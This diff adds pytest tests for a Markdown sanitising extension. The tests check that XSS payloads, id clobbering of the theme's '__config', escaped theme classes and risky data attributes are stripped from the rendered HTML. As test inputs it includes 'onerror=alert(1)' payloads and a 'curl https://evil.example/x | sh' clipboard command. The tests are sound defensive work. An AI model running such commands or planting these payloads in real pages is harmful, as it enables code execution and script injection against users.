@@ -156,6 +156,59 @@ def test_a_tooltip_is_text_even_to_a_theme_that_reads_titles_as_html(title: str)
     assert html.unescape(decoded) == html.unescape(title)  # what the reader sees
 
 
+@pytest.mark.parametrize("name", ["title", "TITLE"])
+@pytest.mark.parametrize(
+    "title", ["&lt;img src=x onerror=alert(1)&gt;", "&#60;iframe srcdoc=x&#62;", "x <img src=x onerror=alert(1)>"]
+)
+def test_a_tooltip_from_an_attribute_list_is_text_with_its_character_references_read(name: str, title: str) -> None:
+    """Python-Markdown keeps `&lt;` aside until the end: the tooltip is made from what the
+    browser will read, not from the placeholder."""
+    html_out = render(f'*u*{{: {name}="{title}" }}')
+    attribute = re.search(r'title="([^"]*)"', html_out)
+    assert attribute is not None
+    decoded = html.unescape(attribute.group(1))  # what the browser gives the theme
+    assert "<" not in decoded
+    assert html.unescape(decoded) == html.unescape(title)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "A paragraph.\n{: #__config }",
+        'A paragraph.\n{: id="&#95;_config" }',
+        "A paragraph.\n{: ID=__drawer }",
+    ],
+)
+def test_no_element_of_the_content_takes_an_id_the_theme_looks_up(text: str) -> None:
+    """`__config` holds the theme's settings (a base address, its texts): the first element
+    with that id is the one the theme and the playbook's script read."""
+    assert "id=" not in render(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["A paragraph.\n{: .md\\-dialog }", 'A paragraph.\n{: class="&#109;d-sidebar big" }'],
+)
+def test_a_theme_class_hidden_by_an_escape_or_a_reference_is_dropped(text: str) -> None:
+    assert "md-" not in html.unescape(render(text))
+
+
+def test_the_data_attributes_the_theme_acts_on_are_dropped() -> None:
+    html_out = render(
+        'Click.\n{: data-clipboard-text="curl https://evil.example/x | sh" data-copy=1 data-tabs=1 '
+        "data-preview=1 data-sheet=s }"
+    )
+    assert re.findall(r"data-[a-z-]+", html_out) == ["data-sheet"]
+
+
+@pytest.mark.parametrize("text", ["## Steps {: id }", "## Steps {: data-toc-label }", "## Steps {: ID=steps }"])
+def test_a_heading_s_attributes_reach_the_table_of_contents_checked(text: str) -> None:
+    """The table of contents reads ids and labels as text: one written without a value stopped
+    the build with a traceback, and one in capitals made an anchor it did not know of."""
+    html_out = markdown.markdown(text, extensions=["attr_list", "toc", SafetyExtension()])
+    assert html_out == '<h2 id="steps">Steps</h2>'
+
+
 def test_a_tooltip_is_a_bounded_summary() -> None:
     summary = tooltip_text("word " * 5000)
     assert len(summary) <= TOOLTIP_LENGTH and summary.endswith("…")
